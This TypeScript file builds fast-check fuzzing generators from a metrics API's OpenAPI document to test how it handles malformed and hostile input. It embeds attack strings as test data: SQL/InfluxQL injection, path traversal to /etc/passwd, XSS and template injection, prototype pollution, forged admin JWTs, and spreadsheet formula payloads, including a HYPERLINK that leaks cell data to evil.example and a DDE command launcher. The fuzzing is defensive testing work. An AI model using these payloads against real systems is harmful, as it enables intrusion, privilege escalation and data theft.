/**
 * fast-check arbitraries for bad (and good) input, derived from the running API's own OpenAPI
 * document: every operation it serves gets generated bodies, headers, paths and query strings,
 * so an endpoint added later is fuzzed without touching the suite.
 *
 * Generated field values carry a tag saying whether they are certainly rejected (a wrong JSON
 * type, an unknown property, a missing required field), so operations that would change stored
 * state (creating users) can be fuzzed with input that can never succeed.
 */
import { parse as parseQueryString } from 'node:querystring';

import fc from 'fast-check';

export interface SchemaObject {
  type?: string;
  enum?: unknown[];
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  example?: unknown;
  items?: SchemaObject;
  oneOf?: SchemaObject[];
  properties?: Record<string, SchemaObject>;
  required?: string[];
  $ref?: string;
}

export interface OpenApiDocument {
  paths: Record<
    string,
    Record<
      string,
      {
        security?: Record<string, unknown>[];
        requestBody?: { content?: Record<string, { schema?: SchemaObject }> };
        parameters?: { name: string; in: string }[];
        responses?: Record<string, unknown>;
      }
    >
  >;
  components?: { schemas?: Record<string, SchemaObject> };
}

export interface Operation {
  method: string;
  /** OpenAPI path, e.g. `/api/{metric}`. */
  route: string;
  auth: 'service' | 'jwt' | 'none';
  pathParams: string[];
  body: SchemaObject | undefined;
  /** Documented status codes. */
  statuses: Set<number>;
}

export function operationsOf(doc: OpenApiDocument): Operation[] {
  const resolve = (s: SchemaObject | undefined): SchemaObject | undefined => {
    if (!s?.$ref) return s;
    return doc.components?.schemas?.[s.$ref.replace('#/components/schemas/', '')];
  };
  const out: Operation[] = [];
  for (const [route, item] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(item)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const schemes = (op.security ?? []).flatMap((s) => Object.keys(s));
      const auth = schemes.includes('jwt') ? 'jwt' : schemes.some((s) => s.startsWith('service')) ? 'service' : 'none';
      out.push({
        method: method.toUpperCase(),
        route,
        auth,
        pathParams: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => p.name),
        body: resolve(op.requestBody?.content?.['application/json']?.schema),
        statuses: new Set(Object.keys(op.responses ?? {}).map(Number)),
      });
    }
  }
  return out;
}

/** A generated value and whether it can never be accepted. */
export interface Tagged {
  value: unknown;
  certainlyBad: boolean;
}

const good = (arb: fc.Arbitrary<unknown>): fc.Arbitrary<Tagged> => arb.map((value) => ({ value, certainlyBad: false }));
const bad = (arb: fc.Arbitrary<unknown>): fc.Arbitrary<Tagged> => arb.map((value) => ({ value, certainlyBad: true }));

/** Strings a careless or hostile client sends. */
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\t\n',
  "' OR 1=1 --",
  '"; DROP MEASUREMENT "cpu/usage_rate"; --',
  '$from',
  '$ns',
  '/.*/',
  '../../etc/passwd',
  '%00',
  '${7*7}',
  '{{constructor.constructor("return process")()}}',
  '<script>alert(1)</script>',
  'DROP DATABASE k8s',
  'a'.repeat(5000),
  '\ud800',
  '🚀'.repeat(40),
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  'null',
  'true',
  '2017-02-30',
  '2017-12-01T25:61:00Z',
  '99999-12-01',
  '0000-00-00',
  '2017-12-01T00:00:00+99:00',
  'yesterday',
];

const anyString = fc.oneof(fc.constantFrom(...NASTY_STRINGS), fc.string({ maxLength: 80 }), fc.string({ unit: 'binary', maxLength: 40 }));
const oddNumber = fc.oneof(
  fc.constantFrom(0, -1, -0, 1.5, 1e21, -1e21, Number.MAX_SAFE_INTEGER + 2, 10001, 1e9),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** The latest instant a period may name (InfluxDB's int64 nanoseconds end on 2262-04-11, less margins). */
export const LATEST_ACCEPTED_MS = Date.UTC(2262, 0, 1);

/** A date or date-time as a client writes it, with the instant it means (undefined: not a date at all). */
export interface WrittenDate {
  text: string;
  instantMs: number | undefined;
}

type DateForm = 'date' | 'date-time' | 'offset' | 'space';
const dateForm = fc.tuple(fc.constantFrom<DateForm>('date', 'date-time', 'offset', 'space'), fc.integer({ min: -14, max: 14 }));

/** One instant written as a date (its day at 00:00 UTC), a date-time, a date-time with an offset of `offsetH` hours, or with a space and minutes. */
export function writeDate(d: Date, [form, offsetH]: [DateForm, number]): WrittenDate {
  const iso = d.toISOString();
  switch (form) {
    case 'date':
      return { text: iso.slice(0, 10), instantMs: Date.parse(`${iso.slice(0, 10)}T00:00:00Z`) };
    case 'space':
      return { text: `${iso.slice(0, 10)} ${iso.slice(11, 16)}`, instantMs: Date.parse(`${iso.slice(0, 16)}:00Z`) };
    case 'offset': {
      // The same instant in local time `offsetH` hours from UTC (a year past 9999 is no date at all).
      const local = new Date(d.getTime() + offsetH * 3_600_000).toISOString().slice(0, 23);
      const sign = offsetH < 0 ? '-' : '+';
      return { text: `${local}${sign}${String(Math.abs(offsetH)).padStart(2, '0')}:00`, instantMs: /^\d{4}-/.test(local) ? d.getTime() : undefined };
    }
    default:
      return { text: iso, instantMs: d.getTime() };
  }
}

function written(instants: fc.Arbitrary<Date>): fc.Arbitrary<WrittenDate> {
  return fc.tuple(instants, dateForm).map(([d, form]) => writeDate(d, form));
}

const between = (min: string, max: string) => fc.date({ min: new Date(min), max: new Date(max), noInvalidDate: true });

/**
 * Dates across everything ISO-8601 can write (years 0001–9999), as dates and date-times, most of
 * them around the ends of the accepted range (1970-01-01, 2262-01-01) and of InfluxDB's (2262-04-11).
 */
export const representableDate: fc.Arbitrary<WrittenDate> = fc.oneof(
  { arbitrary: written(between('0001-01-01T00:00:00Z', '9999-12-31T23:59:59.999Z')), weight: 2 },
  { arbitrary: written(between('1970-01-01T00:00:00Z', '2261-12-31T23:59:59.999Z')), weight: 3 },
  { arbitrary: written(between('1969-12-30T00:00:00Z', '1970-01-02T00:00:00Z')), weight: 2 },
  { arbitrary: written(between('2261-12-30T00:00:00Z', '2262-01-02T00:00:00Z')), weight: 2 },
  { arbitrary: written(between('2262-04-10T00:00:00Z', '2262-04-13T00:00:00Z')), weight: 1 },
  { arbitrary: written(between('2017-11-20T00:00:00Z', '2017-12-10T00:00:00Z')), weight: 1 },
  {
    arbitrary: fc
      .constantFrom(
        ...[
          '0001-01-01',
          '0001-01-01T00:00:00Z',
          '1969-12-31',
          '1969-12-31T23:59:59.999Z',
          '1970-01-01',
          '1970-01-01T00:00:00Z',
          '2261-12-31',
          '2262-01-01',
          '2262-01-01T00:00:00Z',
        ],
        ...['2262-01-01T00:00:00.001Z', '2262-04-11', '2262-04-11T23:47:16Z', '2262-04-11T23:47:16.854775807Z', '2262-04-12', '2263-01-01', '9999-12-31', '9999-12-31T23:59:59Z'],
      )
      .map((text): WrittenDate => ({ text, instantMs: Date.parse(text.length === 10 ? `${text}T00:00:00Z` : text) })),
    weight: 2,
  },
);

/**
 * A period's begin (absent: the endpoint's default) and end: independent dates, or an end a short
 * while to a little over a year after the begin, so that periods inside the range are common.
 */
export const periodBounds: fc.Arbitrary<[WrittenDate | undefined, WrittenDate]> = fc.oneof(
  fc.tuple(fc.option(representableDate, { nil: undefined, freq: 8 }), representableDate),
  fc
    .tuple(representableDate, fc.oneof(fc.integer({ min: -3_600_000, max: 86_400_000 }), fc.integer({ min: 360 * 86_400_000, max: 372 * 86_400_000 })), dateForm)
    .map(([begin, spanMs, form]): [WrittenDate, WrittenDate] => {
      const end = new Date((begin.instantMs ?? 0) + spanMs);
      return [begin, Number.isNaN(end.getTime()) ? begin : writeDate(end, form)];
    }),
);

/** Whether the API must accept a written date as a period bound. */
export function acceptedDate(d: WrittenDate): boolean {
  return d.instantMs !== undefined && d.instantMs >= 0 && d.instantMs <= LATEST_ACCEPTED_MS;
}

/** Plausible dates around the e2e fixture (2017-12-01, two hours of data), and any year ISO-8601 can write. */
const dateString = fc.oneof(
  fc.date({ min: new Date('2017-11-20T00:00:00Z'), max: new Date('2017-12-10T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()),
  fc.date({ min: new Date('2017-11-20T00:00:00Z'), max: new Date('2017-12-10T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
  fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()),
  fc.constantFrom('2017-12-01', '2017-12-02', '2017-12-01T01:00:00Z', '2017-12-01T00:30:00+01:00', '2017-12-01T02:00:00.000Z'),
  representableDate.map((d) => d.text),
);

/** What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Pod and namespace names as an InfluxDB tag may hold them (Kubernetes would refuse most): mostly
 * starting with a formula character, with quotes, commas, spaces and operators after it.
 */
export const formulaName: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: fc.constantFrom(...'abz09-_.()"\',;:!/ =+-@|&%$'.split('')), maxLength: 24 }))
      .map(([first, rest]) => first + rest),
    weight: 5,
  },
  { arbitrary: fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\t=1', '\r=1'), weight: 2 },
  { arbitrary: fc.stringMatching(/^[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?$/).filter((n) => n !== 'kube-system'), weight: 1 },
);

/** Values a schema would accept (or that are close enough to be worth sending), by field name first. */
function plausible(name: string, schema: SchemaObject): fc.Arbitrary<unknown> {
  if (/^(timeBeginInterval|timeEndInterval|from|to)$/.test(name)) return dateString;
  if (name === 'namespace') return fc.constantFrom('default', 'cluster-3', 'kube-system', 'no-such-namespace');
  if (name === 'namespaces') return fc.array(fc.constantFrom('default', 'cluster-3', 'kube-system', 'lab-x'), { maxLength: 4 });
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  if (schema.oneOf?.length) return fc.oneof(...schema.oneOf.map((s) => plausible(name, s)));
  switch (schema.type) {
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? 0;
      const max = schema.maximum ?? 1000;
      return fc.integer({ min, max });
    }
    case 'boolean':
      return fc.oneof(fc.boolean(), fc.constantFrom('true', 'false'));
    case 'array':
      return fc.array(plausible(name, schema.items ?? { type: 'string' }), { maxLength: 5 });
    case 'string':
    default: {
      const examples = schema.example !== undefined ? [fc.constant(schema.example)] : [];
      const patterned = schema.pattern ? [fc.stringMatching(new RegExp(schema.pattern), { maxLength: Math.min(schema.maxLength ?? 40, 40) })] : [];
      return fc.oneof(...examples, ...patterned, fc.string({ maxLength: Math.min(schema.maxLength ?? 40, 40) }));
    }
  }
}

/** A value of the wrong JSON type for the schema: never accepted. */
function wrongType(schema: SchemaObject): fc.Arbitrary<unknown> {
  const type = schema.type ?? (schema.oneOf ? 'oneOf' : schema.enum ? 'string' : 'string');
  const objects = fc.oneof(
    fc.constant({}),
    fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 }).filter((o) => Object.keys(o).length > 0),
  );
  const arrays = fc.array(fc.jsonValue({ maxDepth: 1 }), { minLength: 1, maxLength: 3 });
  switch (type) {
    case 'integer':
    case 'number':
      return fc.oneof(objects, arrays, fc.boolean());
    case 'boolean':
      return fc.oneof(objects, arrays, fc.integer());
    case 'array':
      return fc.oneof(objects, fc.integer(), fc.boolean());
    case 'oneOf':
      return fc.oneof(objects, arrays, fc.boolean());
    default:
      return fc.oneof(objects, arrays, fc.integer(), fc.boolean());
  }
}

/** Anything for one field: plausible, hostile of the right type, or the wrong type. */
export function fieldValue(name: string, schema: SchemaObject): fc.Arbitrary<Tagged> {
  const sameTypeNasty = schema.type === 'integer' || schema.type === 'number' ? oddNumber : schema.type === 'boolean' ? fc.constantFrom('yes', 'no', 0, 1) : anyString;
  return fc.oneof(
    { arbitrary: good(plausible(name, schema)), weight: 5 },
    { arbitrary: good(sameTypeNasty), weight: 3 },
    { arbitrary: good(fc.constant(null)), weight: 1 },
    { arbitrary: bad(wrongType(schema)), weight: 2 },
  );
}

/** Property names that are not in the schema: the API must refuse them, naming them. */
const unknownKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '$where', 'db', 'q', 'params', 'LIMIT', 'Namespace'),
  fc.string({ minLength: 1, maxLength: 12 }),
);

export interface GeneratedBody {
  /** What goes on the wire (already serialized). */
  text: string;
  contentType: string | undefined;
  /** Field names the API may name in a 400: the schema's, the unknown ones sent, and `body`. */
  fieldNames: string[];
  certainlyBad: boolean;
  /** Too large for the API's body limit. */
  oversized: boolean;
}

/**
 * The field names the API sees in a body, as its parser reads it: JSON objects (and arrays, by
 * index) when the text looks like JSON, form fields otherwise (the seed's curl sends JSON as a form).
 */
export function keysSeenByApi(text: string): string[] {
  const trimmed = text.trim();
  if (trimmed.startsWith('{') || trimmed.startsWith('[')) {
    try {
      const parsed = JSON.parse(trimmed) as unknown;
      return parsed && typeof parsed === 'object' ? Object.keys(parsed) : [];
    } catch {
      return [];
    }
  }
  return Object.keys(parseQueryString(trimmed));
}

function nested(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** Bodies for an operation: objects shaped by its schema with hostile fields, and raw junk. */
export function bodyArb(schema: SchemaObject | undefined): fc.Arbitrary<GeneratedBody> {
  const props = schema?.properties ?? {};
  const required = new Set(schema?.required ?? []);
  const names = Object.keys(props);
  const fieldArbs = Object.fromEntries(names.map((n) => [n, fc.option(fieldValue(n, props[n] as SchemaObject), { nil: undefined, freq: 3 })]));
  const shaped = fc
    .tuple(
      fc.record(fieldArbs),
      fc.array(fc.tuple(unknownKey, fc.jsonValue({ maxDepth: 2 })), { maxLength: 2 }),
      fc.constantFrom('application/json', 'application/json; charset=utf-8', undefined, 'application/x-www-form-urlencoded', 'text/plain'),
    )
    .map(([fields, extras, contentType]): GeneratedBody => {
      const object: Record<string, unknown> = {};
      let certainlyBad = false;
      for (const n of names) {
        const f = (fields as Record<string, Tagged | undefined>)[n];
        if (f === undefined) {
          if (required.has(n)) certainlyBad = true;
          continue;
        }
        object[n] = f.value;
        certainlyBad ||= f.certainlyBad;
      }
      const extraNames: string[] = [];
      for (const [k, v] of extras) {
        if (k in props) continue;
        Object.defineProperty(object, k, { value: v, enumerable: true, configurable: true, writable: true });
        extraNames.push(k);
        certainlyBad = true;
      }
      const text = JSON.stringify(object);
      return { text, contentType, fieldNames: [...names, ...extraNames, ...keysSeenByApi(text), 'body'], certainlyBad, oversized: false };
    });
  const junk = fc
    .oneof(
      fc
        .jsonValue({ maxDepth: 3 })
        .filter((v) => v === null || typeof v !== 'object' || Array.isArray(v))
        .map((v) => JSON.stringify(v)),
      fc.string({ maxLength: 60 }).map((s) => `{${s}`),
      fc.string({ maxLength: 60 }),
      fc.constantFrom(
        '',
        '{}{}',
        '[',
        '{"a":1,}',
        '\u0000',
        'null',
        '[]',
        '"x"',
        'namespace=default&limit=abc',
        'a=1&a=2&a=3',
        '{"__proto__":{"polluted":true}}',
        '{"constructor":{"prototype":{"x":1}}}',
      ),
      fc.integer({ min: 200, max: 3000 }).map(nested),
    )
    .chain((text) =>
      fc
        .constantFrom('application/json', undefined, 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml')
        .map((contentType): GeneratedBody => ({ text, contentType, fieldNames: [...names, ...keysSeenByApi(text), 'body'], certainlyBad: true, oversized: false })),
    );
  const huge = fc
    .constantFrom({ text: JSON.stringify({ namespace: 'x'.repeat(1_100_000) }), contentType: 'application/json' }, { text: 'a'.repeat(1_100_000), contentType: 'text/plain' })
    .map((b): GeneratedBody => ({ ...b, fieldNames: [...names, 'body'], certainlyBad: true, oversized: true }));
  return fc.oneof({ arbitrary: shaped, weight: 14 }, { arbitrary: junk, weight: 5 }, { arbitrary: huge, weight: 1 });
}

/** A header value Node's client can send (tab, visible ASCII, space, Latin-1). */
const headerChar = fc
  .oneof({ arbitrary: fc.integer({ min: 0x20, max: 0x7e }), weight: 9 }, { arbitrary: fc.integer({ min: 0xa0, max: 0xff }), weight: 1 })
  .map((c) => String.fromCharCode(c));
export const headerValue = fc.oneof(
  fc.string({ unit: headerChar, maxLength: 60 }),
  fc.string({ unit: headerChar, minLength: 500, maxLength: 4000 }),
  fc.constantFrom('', ' ', '\t'),
);

/** Headers a client may get wrong, each present or not; credentials valid or not. */
export function headersArb(valid: Record<string, string>, token: string): fc.Arbitrary<Record<string, string>> {
  const jwtParts = token.split('.');
  const badToken = fc.oneof(
    headerValue,
    fc.constantFrom(
      `${jwtParts[0]}.${jwtParts[1]}.`,
      `eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.${jwtParts[1]}.`,
      `${jwtParts[0]}.${Buffer.from('{"sub":"resilience-admin","role":"admin","exp":99999999999}').toString('base64url')}.${jwtParts[2]}`,
      token.slice(0, -3),
      `${token}x`,
    ),
  );
  const optional = (arb: fc.Arbitrary<string>) => fc.option(arb, { nil: undefined, freq: 2 });
  return fc
    .record({
      'x-username': optional(fc.oneof(fc.constant(valid['x-username'] ?? ''), headerValue)),
      'x-password': optional(fc.oneof(fc.constant(valid['x-password'] ?? ''), headerValue)),
      authorization: optional(
        fc.oneof(
          fc.constant(`Bearer ${token}`),
          badToken.map((t) => `Bearer ${t}`),
          headerValue,
          fc.constant(`Basic ${Buffer.from('a:b').toString('base64')}`),
        ),
      ),
      'content-type': optional(
        fc.oneof(
          fc.constantFrom('application/json', 'text/csv', 'application/json; charset=latin1', 'application/x-www-form-urlencoded', '*/*', 'application/vnd.api+json'),
          headerValue,
        ),
      ),
      accept: optional(fc.oneof(fc.constantFrom('text/csv', 'application/json', 'text/csv;q=0', 'application/xml', '*/*;q=0.1, text/csv;q=abc', 'text/*'), headerValue)),
      'accept-encoding': optional(fc.oneof(fc.constantFrom('gzip', 'br', 'identity;q=0', '*;q=0'), headerValue)),
      'content-encoding': optional(fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'bogus')),
      'x-request-id': optional(headerValue),
      'x-forwarded-for': optional(fc.oneof(fc.ipV4(), headerValue)),
      'accept-language': optional(headerValue),
      origin: optional(fc.oneof(fc.webUrl(), headerValue)),
      cookie: optional(headerValue),
    })
    .map((h) => Object.fromEntries(Object.entries(h).filter((e): e is [string, string] => e[1] !== undefined)));
}

/** encodeURIComponent, except that lone surrogates (which it refuses) go out as their UTF-8 bytes. */
export function encodeAny(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return Buffer.from(s, 'utf8').toString('hex').replace(/(..)/g, '%$1');
  }
}

/** A path segment as a client might send it: encoded, half-encoded, raw, malformed. */
export function pathValueArb(known: readonly string[]): fc.Arbitrary<{ raw: string; sent: string }> {
  const raw = fc.oneof(
    fc.constantFrom(...known),
    fc.constantFrom(...known).map((k) => k.toUpperCase()),
    fc.constantFrom(...known).map((k) => `${k}/`),
    fc.constantFrom('..', '../health', 'cpu/../../health', '.', '%', '%zz', '%E0%A4%A', '%00', 'cpu%2Fusage_rate', 'cpu//usage_rate', '*', 'a'.repeat(3000)),
    fc.string({ minLength: 1, maxLength: 50 }),
  );
  const encode = fc.constantFrom<(s: string) => string>(
    (s) => encodeAny(s),
    (s) => s.split('/').map(encodeAny).join('/'),
    (s) => (/^[\u0021-\u007e]*$/.test(s) && !/[?#]/.test(s) ? s : encodeAny(s)),
    (s) => encodeAny(encodeAny(s)),
  );
  return fc.tuple(raw, encode).map(([r, enc]) => ({ raw: r, sent: enc(r) }));
}

/** A query string of junk parameters (most endpoints take none and must say so, or ignore it). */
export const queryStringArb = fc
  .array(fc.tuple(fc.oneof(unknownKey, fc.constantFrom('limit', 'namespace', 'from')), fc.oneof(anyString, fc.integer().map(String))), { minLength: 1, maxLength: 3 })
  .map((pairs) => `?${pairs.map(([k, v]) => `${encodeAny(k)}=${encodeAny(v)}`).join('&')}`);
